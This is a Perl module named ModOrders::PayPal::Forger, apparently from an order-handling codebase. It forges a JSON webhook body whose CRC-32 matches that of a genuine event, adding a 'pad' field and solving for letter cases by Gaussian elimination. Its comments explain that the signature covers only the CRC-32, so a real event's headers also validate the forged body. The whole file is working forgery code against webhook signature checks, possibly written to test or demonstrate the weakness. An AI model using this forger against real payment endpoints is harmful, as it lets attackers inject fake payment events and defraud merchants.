# SPDX-License-Identifier: Apache-2.0
package ModOrders::PayPal::Forger;

# Creates a body with the CRC-32 of another body. PayPal's signature of an event covers only the CRC-32 of the body, so the headers of one event
# are valid for both.

use strict;
use warnings;

use Exporter qw(import);
use ModOrders::PayPal::Seal;

our @EXPORT_OK = qw(forge);

# The case of each letter is free. There must be more letters than CRC-32 has bits, so that some choice of cases yields any CRC.
my $LETTERS = 64;

# CRC-32 is linear: the bits that a changed letter changes do not depend on the other letters. By Gaussian elimination, returns for each
# leading bit a change of the CRC and the set of letters that causes it.
sub _basis {
    my ($text, $at, $crc) = @_;
    my @basis;
    for my $letter (0 .. $LETTERS - 1) {
        my $changed = $text;
        substr($changed, $at + $letter, 1) ^= q{ };
        my ($bits, $letters) = (ModOrders::PayPal::Seal::crc32($changed) ^ $crc, 1 << $letter);
        for my $bit (reverse 0 .. 31) {
            next if !($bits >> $bit & 1);
            if (!$basis[$bit]) {
                $basis[$bit] = [$bits, $letters];
                last;
            }
            $bits    ^= $basis[$bit][0];
            $letters ^= $basis[$bit][1];
        }
    }
    return @basis;
}

# Adds a member "pad" to a JSON object so that its CRC-32 is that of $like.
sub forge {
    my ($object, $like) = @_;
    my $head = '{"pad":"';
    my $text = $head . ('A' x $LETTERS) . '",' . substr $object, 1;
    my $crc  = ModOrders::PayPal::Seal::crc32($text);
    my $left = ModOrders::PayPal::Seal::crc32($like) ^ $crc;
    my @basis = _basis($text, length $head, $crc);
    my $letters = 0;
    for my $bit (reverse 0 .. 31) {
        next if !($left >> $bit & 1);
        my $change = $basis[$bit] or die "no body with this CRC-32\n";
        $left    ^= $change->[0];
        $letters ^= $change->[1];
    }
    for my $letter (0 .. $LETTERS - 1) {
        substr($text, length($head) + $letter, 1) ^= q{ } if $letters >> $letter & 1;
    }
    return $text;
}

1;
